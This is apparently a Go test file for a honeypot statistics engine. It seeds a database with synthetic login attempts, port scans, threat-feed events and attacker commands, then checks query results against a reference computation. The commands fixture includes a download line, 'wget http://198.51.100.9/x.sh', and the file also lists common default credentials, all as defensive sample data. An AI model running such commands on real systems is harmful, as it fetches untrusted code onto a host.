package engine

import (
	"context"
	"fmt"
	"math/rand/v2"
	"net/netip"
	"slices"
	"strconv"
	"testing"
	"time"

	"github.com/jackc/pgx/v5"
	"github.com/stretchr/testify/require"

	"github.com/sview-project/sview/internal/derived"
	"github.com/sview-project/sview/internal/period"
	"github.com/sview-project/sview/internal/query"
	"github.com/sview-project/sview/internal/twin"
)

// testNow is the fixed clock of the engine tests.
var testNow = time.Date(2026, 3, 18, 17, 47, 31, 0, time.UTC)

// fact is one raw row in a shape common to the three tables, for the reference computation:
// dims holds each dimension's text (as the engine labels it); an absent key is NULL.
type fact struct {
	table derived.Family
	time  time.Time
	count int64
	dims  map[string]string
}

// seed fills a fresh database with a small deterministic dataset spread over more than a year
// (denser in the last week and hour, a few rows after testNow, some rows on bucket
// boundaries), fills the three rollups from it with plain INSERT … SELECT … GROUP BY and sets
// their watermarks. It returns the raw rows.
func seed(t testing.TB, db Querier, scale int) []fact {
	t.Helper()
	ctx := context.Background()
	rng := rand.New(rand.NewPCG(4, 2))
	_, err := db.Exec(ctx, `INSERT INTO identity (id, sn, device_token)
		SELECT i, lpad(i::text, 16, '0'), lpad(to_hex(i), 64, '0') FROM generate_series(1, 6) i`)
	require.NoError(t, err)
	_, err = db.Exec(ctx, `INSERT INTO geo_prefixes (network, asn, country, as_name) VALUES
		('198.51.0.0/22', 64500, 'US', 'EXAMPLE-A'), ('198.51.4.0/22', 64501, 'CZ', 'NET-A'),
		('203.0.113.0/24', 64501, NULL, 'NET-B'), ('192.0.2.0/24', 64502, NULL, NULL)`)
	require.NoError(t, err)

	type attacker struct {
		ip      string
		country string
		asn     string
	}
	countries := []string{"CN", "US", "RU", "CZ", "BR", "IN", "DE", "NL"}
	var attackers []attacker
	for i := range 40 {
		a := attacker{ip: fmt.Sprintf("198.51.%d.%d", i/8, 10+i), country: countries[i%len(countries)], asn: strconv.Itoa(64500 + i%7)}
		if i%6 == 5 {
			a.ip = fmt.Sprintf("2001:db8::%x", i)
		}
		if i%9 == 4 {
			a.country = ""
		}
		if i%11 == 3 {
			a.asn = ""
		}
		attackers = append(attackers, a)
	}
	// A few attackers do most of the work.
	pick := func(n int) int { return min(int(float64(n)*rng.Float64()*rng.Float64()*rng.Float64()), n-1) }
	when := func() time.Time {
		var d time.Duration
		switch r := rng.Float64(); {
		case r < 0.40:
			d = time.Duration(rng.Int64N(int64(380 * 24 * time.Hour)))
		case r < 0.70:
			d = time.Duration(rng.Int64N(int64(8 * 24 * time.Hour)))
		case r < 0.97:
			d = time.Duration(rng.Int64N(int64(70 * time.Minute)))
		default:
			d = -time.Duration(rng.Int64N(int64(time.Hour))) // after now: must never be read
		}
		ts := testNow.Add(-d).Truncate(time.Second)
		if rng.IntN(10) == 0 {
			ts = ts.Truncate(15 * time.Minute) // on a bucket boundary
		}
		return ts
	}
	count := func() int64 {
		if rng.IntN(10) == 0 {
			return 2 + rng.Int64N(19)
		}
		return 1
	}
	setDims := func(m map[string]string, a attacker, probe int, trap string) {
		m["ip"], m["probe"] = displayIP(a.ip), strconv.Itoa(probe)
		if a.country != "" {
			m["country"] = a.country
		}
		if a.asn != "" {
			m["asn"] = a.asn
		}
		if trap != "" {
			m["trap"] = trap
		}
	}
	nullable := func(m map[string]string, k string) any {
		if v, ok := m[k]; ok {
			return v
		}
		return nil
	}

	var facts []fact
	kinds := [][2]string{
		{"minipot_telnet", "connect"}, {"minipot_telnet", "login"}, {"minipot_telnet", "invalid"},
		{"minipot_ftp", "login"}, {"minipot_http", "message"}, {"minipot_http", "login"},
		{"minipot_smtp", "login"}, {"fwlogs", "small_port_scan"}, {"fwlogs", "big_port_scan"}, {"haas", "login"},
	}
	var inc [8][]any
	for range 2500 * scale {
		a := attackers[pick(len(attackers))]
		k := kinds[pick(len(kinds))]
		f := fact{table: "incidents", time: when(), count: count(), dims: map[string]string{"action": k[1]}}
		setDims(f.dims, a, 1+pick(6), k[0])
		facts = append(facts, f)
		for i, v := range []any{f.time, f.count, f.dims["probe"], k[0], k[1], a.ip, nullable(f.dims, "country"), nullable(f.dims, "asn")} {
			inc[i] = append(inc[i], v)
		}
	}
	_, err = db.Exec(ctx, `INSERT INTO incidents (time, raw_count, identity_id, trap, action, ip, country, asn)
		SELECT * FROM unnest($1::timestamptz[], $2::bigint[], $3::bigint[], $4::text[]::trap_t[], $5::text[]::action_t[],
			$6::inet[], $7::text[], $8::int[])`, inc[0], inc[1], inc[2], inc[3], inc[4], inc[5], inc[6], inc[7])
	require.NoError(t, err)

	usernames := []string{"root", "admin", "user", "", "\n", "support", "guest", "pi", "ubnt", "test"}
	passwords := []string{"123456", "admin", "password", "", "\n", "root", "12345", "qwerty", "1234", "pass", "default"}
	loginTraps := []string{"minipot_telnet", "minipot_ftp", "minipot_http", "minipot_smtp", "haas"}
	var pw [9][]any
	for range 1200 * scale {
		f := fact{table: "passwords", time: when(), count: count(), dims: map[string]string{
			"username": usernames[pick(len(usernames))], "password": passwords[pick(len(passwords))]}}
		var ip any
		if rng.IntN(10) < 7 { // the original stored neither probe, trap nor attacker
			a := attackers[pick(len(attackers))]
			setDims(f.dims, a, 1+pick(6), loginTraps[pick(len(loginTraps))])
			ip = a.ip
		}
		facts = append(facts, f)
		for i, v := range []any{f.time, f.count, f.dims["username"], f.dims["password"], nullable(f.dims, "probe"),
			nullable(f.dims, "trap"), ip, nullable(f.dims, "country"), nullable(f.dims, "asn")} {
			pw[i] = append(pw[i], v)
		}
	}
	_, err = db.Exec(ctx, `INSERT INTO passwords (time, raw_count, username, password, identity_id, trap, ip, country, asn)
		SELECT * FROM unnest($1::timestamptz[], $2::bigint[], $3::text[], $4::text[], $5::bigint[], $6::text[]::trap_t[],
			$7::inet[], $8::text[], $9::int[])`, pw[0], pw[1], pw[2], pw[3], pw[4], pw[5], pw[6], pw[7], pw[8])
	require.NoError(t, err)

	ports := []struct {
		port  int
		proto string
	}{{22, "TCP"}, {23, "TCP"}, {80, "TCP"}, {443, "TCP"}, {53, "UDP"}, {445, "TCP"}, {3389, "TCP"}, {1194, "UDP"}, {8080, "TCP"}, {22, "UDP"}, {0, "other"}}
	var pt [8][]any
	for range 1000 * scale {
		p := ports[pick(len(ports))]
		f := fact{table: "ports", time: when(), count: count(), dims: map[string]string{
			"port": p.proto + "/" + strconv.Itoa(p.port), "portnum": strconv.Itoa(p.port)}}
		var ip any
		if rng.IntN(10) < 7 {
			a := attackers[pick(len(attackers))]
			setDims(f.dims, a, 1+pick(6), "")
			ip = a.ip
		}
		facts = append(facts, f)
		for i, v := range []any{f.time, f.count, p.port, p.proto, nullable(f.dims, "probe"), ip, nullable(f.dims, "country"), nullable(f.dims, "asn")} {
			pt[i] = append(pt[i], v)
		}
	}
	_, err = db.Exec(ctx, `INSERT INTO ports (time, raw_count, port, protocol, identity_id, ip, country, asn)
		SELECT * FROM unnest($1::timestamptz[], $2::bigint[], $3::int[], $4::text[]::protocol_t[], $5::bigint[],
			$6::inet[], $7::text[], $8::int[])`, pt[0], pt[1], pt[2], pt[3], pt[4], pt[5], pt[6], pt[7])
	require.NoError(t, err)

	// The two newer families lie within the last 8 days (and a few rows after now): on
	// TimescaleDB every day of raw rows is a chunk, and a year of them per family would cost
	// each test's seed its time; their daily rollups still answer the long periods.
	recent := func() time.Time {
		var d time.Duration
		switch r := rng.Float64(); {
		case r < 0.55:
			d = time.Duration(rng.Int64N(int64(8 * 24 * time.Hour)))
		case r < 0.95:
			d = time.Duration(rng.Int64N(int64(70 * time.Minute)))
		default:
			d = -time.Duration(rng.Int64N(int64(time.Hour)))
		}
		ts := testNow.Add(-d).Truncate(time.Second)
		if rng.IntN(10) == 0 {
			ts = ts.Truncate(15 * time.Minute)
		}
		return ts
	}

	// Feed events name no probe; half the feeds give no provider, most events no identifier.
	classes := [][3]string{
		{"information-gathering", "scanner", "ssh"}, {"information-gathering", "scanner", ""},
		{"intrusion-attempts", "brute-force", "telnet"}, {"malicious-code", "infected-system", "mirai"},
		{"abusive-content", "spam", ""}, {"vulnerable", "vulnerable-system", "open-redis"},
	}
	feeds := [][2]string{{"Shadowserver", "Scan-SSH"}, {"Shadowserver", "Drone"}, {"", "warden.dionaea"}, {"CERT.PL", "n6"}}
	var fe [10][]any
	for range 600 * scale {
		a := attackers[pick(len(attackers))]
		c, fd := classes[pick(len(classes))], feeds[pick(len(feeds))]
		f := fact{table: derived.FeedEvents, time: recent(), count: count(), dims: map[string]string{
			"taxonomy": c[0], "type": c[1], "feed": fd[1]}}
		setDims(f.dims, a, 0, "")
		delete(f.dims, "probe")
		if c[2] != "" {
			f.dims["identifier"] = c[2]
		}
		if fd[0] != "" {
			f.dims["provider"] = fd[0]
		}
		facts = append(facts, f)
		for i, v := range []any{f.time, f.count, nullable(f.dims, "provider"), fd[1], c[0], c[1], nullable(f.dims, "identifier"),
			a.ip, nullable(f.dims, "country"), nullable(f.dims, "asn")} {
			fe[i] = append(fe[i], v)
		}
	}
	_, err = db.Exec(ctx, `INSERT INTO feed_events (time, raw_count, provider, feed, taxonomy, type, identifier, ip, country, asn)
		SELECT * FROM unnest($1::timestamptz[], $2::bigint[], $3::text[], $4::text[], $5::text[], $6::text[], $7::text[],
			$8::inet[], $9::text[], $10::int[])`, fe[0], fe[1], fe[2], fe[3], fe[4], fe[5], fe[6], fe[7], fe[8], fe[9])
	require.NoError(t, err)

	commands := []string{"uname -a", "cat /proc/cpuinfo", "wget http://198.51.100.9/x.sh", "cd /tmp", "echo ok"}
	var cm [7][]any
	for range 400 * scale {
		f := fact{table: derived.Commands, time: recent(), count: count(), dims: map[string]string{"command": commands[pick(len(commands))]}}
		var ip any
		if rng.IntN(10) < 9 {
			a := attackers[pick(len(attackers))]
			setDims(f.dims, a, 1+pick(6), "")
			ip = a.ip
		}
		facts = append(facts, f)
		for i, v := range []any{f.time, f.count, f.dims["command"], nullable(f.dims, "probe"), ip, nullable(f.dims, "country"), nullable(f.dims, "asn")} {
			cm[i] = append(cm[i], v)
		}
	}
	_, err = db.Exec(ctx, `INSERT INTO commands (time, raw_count, command, identity_id, ip, country, asn)
		SELECT * FROM unnest($1::timestamptz[], $2::bigint[], $3::text[], $4::bigint[], $5::inet[], $6::text[], $7::int[])`,
		cm[0], cm[1], cm[2], cm[3], cm[4], cm[5], cm[6])
	require.NoError(t, err)

	fillRollups(t, db)
	return facts
}

// rollupDims are the dimension columns of each table, as in migration 000003.
var rollupDims = map[derived.Family]string{
	"incidents":   "identity_id, trap, action, ip, country, asn",
	"passwords":   "username, password, identity_id, trap, ip, country, asn",
	"ports":       "port, protocol, identity_id, ip, country, asn",
	"feed_events": "provider, feed, taxonomy, type, identifier, ip, country, asn",
	"commands":    "command, identity_id, ip, country, asn",
}

// fillRollups rebuilds every rollup from the precision below it, the narrow incident totals and
// the ranked twins from their wide tables, as the aggregator would, and sets every watermark to
// the end of the last complete bucket before testNow. One bucket in seven is left out of
// twin_buckets with a stale twin, so every test also reads the wide rollup beside the twins.
func fillRollups(t testing.TB, db Querier) {
	t.Helper()
	ctx := context.Background()
	steps := []struct {
		from, to period.Precision
		bucket   string
	}{{period.Raw, period.Quarterly, "15 minutes"}, {period.Quarterly, period.Hourly, "1 hour"}, {period.Hourly, period.Daily, "1 day"}}
	for table, dims := range rollupDims {
		for _, s := range steps {
			_, err := db.Exec(ctx, fmt.Sprintf(`INSERT INTO %s (time, raw_count, %s)
				SELECT date_bin('%s', time, 'epoch'), sum(raw_count), %s FROM %s GROUP BY 1, %s`,
				derived.RollupOf(table).Name(s.to), dims, s.bucket, dims, derived.RollupOf(table).Name(s.from), dims))
			require.NoError(t, err, "fill %s", derived.RollupOf(table).Name(s.to))
			_, err = db.Exec(ctx, `INSERT INTO rollup_watermarks (source, precision, watermark) VALUES ($1, $2, $3)`,
				table, string(s.to), testNow.Truncate(s.to.Step()))
			require.NoError(t, err)
		}
	}
	fillTotals(t, db)
	// Every seventh bucket older than the week and the newest hours are not listed; the week's
	// other hours are, so the running totals of ports reach over the whole week.
	fillTwins(t, db, fmt.Sprintf("((extract(epoch FROM time)::bigint / 3600) %% 7 = 3 AND time < '%s') OR time >= '%s'",
		testNow.Add(-8*24*time.Hour).Format(time.RFC3339), testNow.Add(-4*time.Hour).Format(time.RFC3339)), testNow)
}

// fillTwins builds every twin (ranked twins and sightings) from its wide rollup with its
// BuildSQL, as the aggregator's twin job does, and lists in twin_buckets every bucket from
// before the longest period to the watermark, empty ones too, except those matching the SQL
// predicate unlisted (on time), whose twin rows it then falsifies: a reader that trusts an
// unlisted twin gives wrong answers. Then it extends the running totals of ports over the
// listed buckets, as the twin job does. Called again, it rebuilds and lists what it left out.
// now is the clock the rollups' watermarks were set at.
func fillTwins(t testing.TB, db Querier, unlisted string, now time.Time) {
	t.Helper()
	ctx := context.Background()
	from, to := time.Unix(0, 0), time.Date(2200, 1, 1, 0, 0, 0, 0, time.UTC)
	for _, source := range derived.Families {
		for _, p := range derived.TwinPrecisions() {
			if !derived.TwinsAt(source, p) {
				continue
			}
			for _, b := range twin.Builders(source) {
				del, ins := b.SQL(p)
				for _, sql := range []string{del, ins} {
					_, err := db.Exec(ctx, sql, from, to)
					require.NoError(t, err, "build %s", b.Table.Name(p))
				}
			}
			step := p.Step()
			_, err := db.Exec(ctx, fmt.Sprintf(`INSERT INTO twin_buckets (source, precision, time)
				SELECT $1, $2, time FROM generate_series($3::timestamptz, $4::timestamptz - $5::interval, $5::interval) AS time
				WHERE NOT (%s) ON CONFLICT DO NOTHING`, unlisted),
				source, p, now.Add(-420*24*time.Hour).Truncate(step), now.Truncate(step), step)
			require.NoError(t, err, "list twin buckets of %s %s", source, p)
			for _, b := range twin.Builders(source) {
				value := "raw_count"
				if b.Table.Kind == derived.Sightings {
					value = "attackers"
				}
				_, err := db.Exec(ctx, fmt.Sprintf(`UPDATE %[1]s SET %[2]s = %[2]s * 3 + 1
					WHERE time NOT IN (SELECT time FROM twin_buckets WHERE source = $1 AND precision = $2)`, b.Table.Name(p), value), source, p)
				require.NoError(t, err, "falsify unlisted buckets of %s", b.Table.Name(p))
			}
		}
	}
	for _, p := range derived.TwinPrecisions() {
		var first *time.Time
		require.NoError(t, db.QueryRow(ctx, "SELECT min(time) FROM "+derived.RollupOf(twin.Running.Family()).Name(p)).Scan(&first))
		if first == nil {
			continue
		}
		for {
			var ok bool
			require.NoError(t, pgx.BeginTxFunc(ctx, db.(beginner), pgx.TxOptions{}, func(tx pgx.Tx) error {
				var err error
				_, ok, err = twin.Running.Extend(ctx, tx, p, *first, now.Truncate(p.Step()))
				return err
			}), "extend %s", twin.Running.Table(p))
			if !ok {
				break
			}
		}
	}
}

// fillTotals groups the wide incident rollups into their narrow twins, as the aggregator does.
func fillTotals(t testing.TB, db Querier) {
	t.Helper()
	for _, p := range []period.Precision{period.Quarterly, period.Hourly, period.Daily} {
		wide := derived.RollupOf(derived.Incidents).Name(p)
		_, err := db.Exec(context.Background(), fmt.Sprintf(`INSERT INTO %s_totals (time, raw_count, trap, action, country, asn)
			SELECT time, sum(raw_count), trap, action, country, asn FROM %s GROUP BY 1, 3, 4, 5, 6`, wide, wide))
		require.NoError(t, err, "fill %s_totals", wide)
	}
}

func displayIP(s string) string { return netip.MustParseAddr(s).String() }

// reference computes a stats query from the raw rows in Go: per key (label values joined by
// \x00, "" without grouping) the total over the window and the value per bucket.
type reference struct {
	totals  map[string]int64
	buckets map[string][]int64
}

func computeReference(facts []fact, q query.Query, w period.Window) reference {
	table := q.Table()
	nb := len(w.Buckets())
	type acc struct {
		sum  int64
		ips  map[string]bool
		bsum []int64
		bips []map[string]bool
	}
	accs := map[string]*acc{}
	labels := labelNames(table, q.GroupBy)
	for _, f := range facts {
		if f.table != table || f.time.Before(w.From) || !f.time.Before(w.Until) || !matches(f, q.Filters) || excluded(f, q.Exclude) || !within(f, q.Restrict) {
			continue
		}
		var parts []string
		ok := true
		for _, l := range labels {
			v, has := f.dims[l]
			if !has || ((l == "username" || l == "password") && (v == "" || v == "\n")) {
				ok = false
			}
			parts = append(parts, v)
		}
		if !ok {
			continue
		}
		key := joinKey(parts)
		a := accs[key]
		if a == nil {
			a = &acc{ips: map[string]bool{}, bsum: make([]int64, nb), bips: make([]map[string]bool, nb)}
			accs[key] = a
		}
		i := int(f.time.Sub(w.From) / w.Bucket)
		a.sum += f.count
		if i < nb {
			a.bsum[i] += f.count
		}
		if ip, has := f.dims["ip"]; has {
			a.ips[ip] = true
			if i < nb {
				if a.bips[i] == nil {
					a.bips[i] = map[string]bool{}
				}
				a.bips[i][ip] = true
			}
		}
	}
	r := reference{totals: map[string]int64{}, buckets: map[string][]int64{}}
	for k, a := range accs {
		vals := make([]int64, nb)
		if q.Metric == "attackers" {
			r.totals[k] = int64(len(a.ips))
			for i := range vals {
				vals[i] = int64(len(a.bips[i]))
			}
		} else {
			r.totals[k] = a.sum
			copy(vals, a.bsum)
		}
		r.buckets[k] = vals
	}
	return r
}

// top is the value of the n-th largest total (the smallest one a top-n answer may hold) and
// how many keys exist.
func (r reference) ranked() []int64 {
	var v []int64
	for _, t := range r.totals {
		v = append(v, t)
	}
	slices.Sort(v)
	slices.Reverse(v)
	return v
}

func joinKey(parts []string) string {
	out := ""
	for i, p := range parts {
		if i > 0 {
			out += "\x00"
		}
		out += p
	}
	return out
}

// labelNames are the fact dimensions a grouping reads (the engine's label names), its keys'
// one after the other.
func labelNames(table derived.Family, g query.Grouping) []string {
	var out []string
	for _, key := range g {
		switch {
		case key == "combination" && table == "passwords":
			out = append(out, "username", "password")
		case key == "combination":
			out = append(out, "trap", "action")
		default:
			out = append(out, key)
		}
	}
	return out
}

// asNames are the AS names seed loads into geo_prefixes: AS64501 has two (the largest is
// shown), AS64502 a prefix without a name, the other ASNs none.
var asNames = map[string]string{"64500": "EXAMPLE-A", "64501": "NET-B"}

// serial is the serial seed gives a probe (its identity id as text).
func serial(id string) string { return fmt.Sprintf("%016s", id) }

// within: a row of a scope restriction's probes, ASNs or prefixes (nil: every row).
func within(f fact, r *query.Restriction) bool {
	if r == nil {
		return true
	}
	for _, p := range r.Probes {
		if f.dims["probe"] == strconv.FormatInt(p, 10) {
			return true
		}
	}
	for _, a := range r.ASNs {
		if f.dims["asn"] == strconv.FormatInt(a, 10) {
			return true
		}
	}
	for _, p := range r.Prefixes {
		if v, ok := f.dims["ip"]; ok && p.Contains(netip.MustParseAddr(v)) {
			return true
		}
	}
	return false
}

// matches: a row meeting every filter set in flt (any of each filter's values); a NULL
// column meets none.
func matches(f fact, flt query.Filters) bool {
	for _, set := range filterSets(flt) {
		if !matchesAny(f, set) {
			return false
		}
	}
	return true
}

// excluded: a row matching any value of any exclusion set in ex; a NULL column matches none,
// so such a row is kept.
func excluded(f fact, ex query.Filters) bool {
	for _, set := range filterSets(ex) {
		if matchesAny(f, set) {
			return true
		}
	}
	return false
}

// filterSet is one set filter: the fact dimension it compares and its values (texts as the
// facts hold them), or the prefixes of an ip filter.
type filterSet struct {
	dim      string
	values   []string
	prefixes []netip.Prefix
}

func filterSets(flt query.Filters) []filterSet {
	ints := func(v []int64) []string {
		var s []string
		for _, x := range v {
			s = append(s, strconv.FormatInt(x, 10))
		}
		return s
	}
	var sets []filterSet
	for _, c := range []filterSet{
		{dim: "probe", values: ints(flt.Probe)}, {dim: "asn", values: ints(flt.ASN)}, {dim: "country", values: flt.Country},
		{dim: "trap", values: flt.Trap}, {dim: "action", values: flt.Action}, {dim: "portnum", values: ints(flt.Port)},
	} {
		if len(c.values) > 0 {
			sets = append(sets, c)
		}
	}
	for _, l := range query.Labels {
		if v := l.Values(flt); len(v) > 0 {
			sets = append(sets, filterSet{dim: l.Key, values: v})
		}
	}
	for dim, v := range map[string][]string{"password": flt.Password, "username": flt.Username} {
		if len(v) > 0 {
			sets = append(sets, filterSet{dim: dim, values: v})
		}
	}
	// Parsed here from the texts, not with the engine's IPPrefixes.
	if len(flt.IP) > 0 {
		set := filterSet{dim: "ip"}
		for _, s := range flt.IP {
			p, err := netip.ParsePrefix(s)
			if err != nil {
				a := netip.MustParseAddr(s)
				p = netip.PrefixFrom(a, a.BitLen())
			}
			set.prefixes = append(set.prefixes, p)
		}
		sets = append(sets, set)
	}
	return sets
}

func matchesAny(f fact, set filterSet) bool {
	v, ok := f.dims[set.dim]
	if !ok {
		return false
	}
	if set.dim != "ip" {
		return slices.Contains(set.values, v)
	}
	a := netip.MustParseAddr(v)
	return slices.ContainsFunc(set.prefixes, func(p netip.Prefix) bool { return p.Contains(a) })
}
